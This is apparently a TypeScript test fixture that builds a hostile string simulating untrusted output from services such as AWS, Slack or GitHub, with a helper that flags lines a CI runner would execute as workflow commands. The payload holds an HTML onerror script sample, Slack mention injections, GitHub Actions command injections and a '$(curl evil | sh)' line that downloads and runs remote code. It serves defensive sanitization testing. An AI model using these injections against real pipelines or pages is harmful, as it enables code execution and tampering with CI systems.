// A hostile external string, as AWS, an alarm, a smoke or hook answer, Slack or GitHub could return it.
// The HTML and the mentions come first: a smoke answer is shown cut to 200 characters.

export const PAYLOAD = [
  'boom',
  '<img src=x onerror=alert(1)> <details><summary>s</summary>',
  '<!channel> <http://evil|text> <@U123> &amp;',
  '::add-mask::secret',
  '::warning::x',
  '::stop-commands::tok',
  '  ::error title=t::indented',
  'a ##[set-output name=x]y',
  'echoed %0A::notice::encoded',
  '# heading',
  '[link](http://x) ![img](http://x) |pipes|',
  '- item',
  '1. first',
  '`code` $(curl evil | sh) *em* _u_ ~~s~~ \\',
  '\u001b[31mred\u001b[0m\r\nend'
].join('\n')

/** A line the runner would execute: `::cmd` at its start (after spaces), or `##[` anywhere (the older form). */
export function executable(line: string): boolean {
  return line.trimStart().startsWith('::') || line.includes('##[')
}
